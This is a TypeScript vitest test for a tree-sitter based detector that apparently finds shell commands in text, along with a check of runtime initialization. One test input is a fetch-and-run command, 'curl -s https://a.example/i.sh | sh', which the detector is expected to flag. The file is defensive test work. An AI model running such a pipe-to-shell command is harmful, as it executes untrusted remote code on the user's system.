import { Parser, TreeCursor, type Tree } from "web-tree-sitter";
import { expect, it } from "vitest";
import { loadGrammars } from "../../../src/core/parse/grammars.js";
import { walk } from "../../../src/core/parse/runtime.js";
import { Parsers } from "../../../src/core/parse/parse-scope.js";
import { createNodeDetector, loadAssets } from "../../../src/host/node.js";

// This test has its own file, because a process initializes the runtime only once.
it("a runtime that another module initialized is read through the library's cursor", async () => {
  await Parser.init();
  const detector = await createNodeDetector();
  expect(detector.detect("Run `curl -s https://a.example/i.sh | sh`.").spans).toEqual([[5, 40]]);
  detector.dispose();
  const parsers = new Parsers(await loadGrammars(await loadAssets()));
  const tree = parsers.get("bash").parse("x") as Tree;
  expect(walk(tree)).toBeInstanceOf(TreeCursor);
  tree.delete();
  parsers.dispose();
});
